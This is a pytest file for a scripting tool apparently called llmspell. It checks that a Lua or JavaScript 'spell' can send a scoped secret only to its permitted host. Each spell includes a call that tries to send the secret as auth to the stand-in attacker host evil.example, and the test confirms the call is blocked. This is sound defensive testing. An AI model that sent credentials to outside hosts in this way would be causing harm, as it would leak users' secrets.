"""Secrets in tests of spells: there is always one, it is never a real one, and where it may go is tested with it."""

from pathlib import Path

import pytest
from commandline import Command

SPELLS = {
    "lua": """spell { allow = { net = { "*.example" }, secrets = { "mail@api.example" } } }
local mail = Secrets.get("mail")
local first = Http.get("https://api.example/a", { auth = mail }).text
local second = attempt(function() return Http.get("https://evil.example/", { auth = mail }) end)
return { first, second.error.message }
""",
    "js": """spell({ allow: { net: ["*.example"], secrets: ["mail@api.example"] } });
const mail = await Secrets.get("mail");
const first = (await Http.get("https://api.example/a", { auth: mail })).text;
const second = await attempt(() => Http.get("https://evil.example/", { auth: mail }));
export default [first, second.error.message];
""",
}
TESTS = {
    "lua": """test("it sends the secret to its host", function()
  local done = cast("it.lua", {}, { http = { ["https://api.example/a"] = "ok", ["https://evil.example/"] = "no" } })
  check.equal(done.value, { "ok", 'Http.get: the secret "mail@evil.example" is not allowed' })
  check.equal(done.calls[2].args[2].auth, "[secret:mail]")
end)
""",
    "js": """test("it sends the secret to its host", async () => {
  const done = await cast("it.js", {}, { http: { "https://api.example/a": "ok", "https://evil.example/": "no" } });
  check.equal(done.value, ["ok", 'Http.get: the secret "mail@evil.example" is not allowed']);
  check.equal(done.calls[1].args[1].auth, "[secret:mail]");
});
""",
}


@pytest.mark.parametrize("suffix", SPELLS)
def test_a_spell_with_a_secret_is_tested_without_it(suffix: str, tmp_path: Path, llmspell: Command) -> None:
    (tmp_path / "llmspell.toml").touch()
    (tmp_path / f"it.{suffix}").write_text(SPELLS[suffix])
    (tmp_path / f"it.test.{suffix}").write_text(TESTS[suffix])
    done = llmspell("test")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "1 ok in 1 file" in done.stderr
